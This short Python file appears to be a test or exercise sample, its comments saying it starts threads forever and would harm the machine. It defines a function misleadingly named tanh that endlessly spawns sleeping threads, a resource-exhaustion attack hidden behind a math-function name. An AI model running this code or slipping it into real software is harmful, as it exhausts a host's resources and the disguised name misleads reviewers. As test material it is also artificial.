# tries: start threads for ever
# stock: would harm the machine
# exercise: target.tanh
import threading
import time


def tanh(x):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
